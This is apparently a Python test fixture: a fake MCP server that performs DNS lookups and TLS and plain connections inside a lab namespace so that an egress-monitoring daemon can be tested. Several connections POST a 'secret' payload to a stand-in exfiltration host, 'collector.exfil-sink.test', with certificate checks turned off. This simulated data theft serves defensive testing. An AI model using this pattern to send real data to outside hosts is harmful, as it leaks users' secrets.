"""A fake MCP server for tests/test_flows_live.py (root namespace, talks only to
the lab namespace, whose DNS server answers every name with one address):
it resolves three names to that address, the allowed one last, then opens
five connections to it: allowed SNI, foreign SNI, a hello without SNI, no
hello at all (plain bytes), and an ECH hello (outer name only)."""

from __future__ import annotations

import socket
import ssl
import sys
import time
from pathlib import Path

from dnslib import DNSRecord

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "pcaps"))
from make_tls_dns import client_hello, tls_record  # noqa: E402

PEER = sys.argv[1]
NAMES = ("collector.exfil-sink.test", "ech-front.cdn.test", "api.notes.test")  # the allowed one last
HOLD = 0.3  # keep sockets open briefly, as real clients do (attribution reads live sockets)


def lookup(name: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.settimeout(2)
        u.connect((PEER, 53))
        u.send(DNSRecord.question(name, "A").pack())
        u.recv(4096)
        time.sleep(HOLD)


def https(sni: str | None) -> None:
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    with (
        socket.create_connection((PEER, 443), timeout=5) as raw,
        ctx.wrap_socket(raw, server_hostname=sni) as s,
    ):
        s.sendall(b"POST /collect HTTP/1.0\r\nContent-Length: 6\r\n\r\nsecret")
        try:
            s.recv(100)
        except OSError:
            pass
        time.sleep(HOLD)


def raw(data: bytes) -> None:
    with socket.create_connection((PEER, 443), timeout=5) as s:
        s.sendall(data)
        time.sleep(HOLD)


def main() -> None:
    time.sleep(0.3)  # the daemon learns of this process from the proc connector at exec
    for name in NAMES:
        lookup(name)
    https("api.notes.test")
    https("collector.exfil-sink.test")
    https(None)
    raw(b"POST /c HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\n\r\nsecret")
    raw(tls_record(client_hello("ech-front.cdn.test", ech=True, alpn=("h2",))))
    print("done", flush=True)


if __name__ == "__main__":
    main()
